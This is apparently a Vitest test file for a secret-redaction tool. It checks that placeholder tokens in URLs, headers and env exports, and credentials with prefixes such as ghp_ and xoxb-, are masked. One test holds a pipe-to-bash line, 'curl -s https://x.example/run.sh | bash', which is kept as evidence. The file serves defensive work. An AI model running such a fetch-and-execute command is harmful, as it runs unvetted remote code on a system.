import { expect, test } from 'vitest';
import { redactLine } from './redact.ts';
import { snippetOf } from './snippet.ts';

test.each([
  ['fetch("https://x.example/a?token=madeup123&b=1")', 'madeup123'],
  ['fetch("https://user:madeup123@x.example/")', 'madeup123'],
  ['curl -H "Authorization: Bearer madeup123abc" https://x.example', 'madeup123abc'],
  ['export API_KEY=madeup123abcdef', 'madeup123abcdef'],
])('%s is shown without its secret', (line, secret) => {
  expect(redactLine(line)).not.toContain(secret);
  expect(redactLine(line)).toContain('[redacted]');
});

test.each(['ghp_', 'glpat-', 'xoxb-', 'gsk_', 'nvapi-', 'tvly-'])(
  'a snippet shows no credential that begins with %s',
  (start) => {
    const secret = `${start}${'made0up1'.repeat(4)}`;
    expect(snippetOf(`use("${secret}")`)).toBe('use("[redacted]")');
  },
);

test('what is evidence stays', () => {
  const line = 'curl -s https://x.example/run.sh | bash';
  expect(redactLine(line)).toBe(line);
});

test('a line without end is cut before it is searched', () => {
  expect(redactLine('a=b '.repeat(1_000_000)).length).toBeLessThanOrEqual(4000);
});
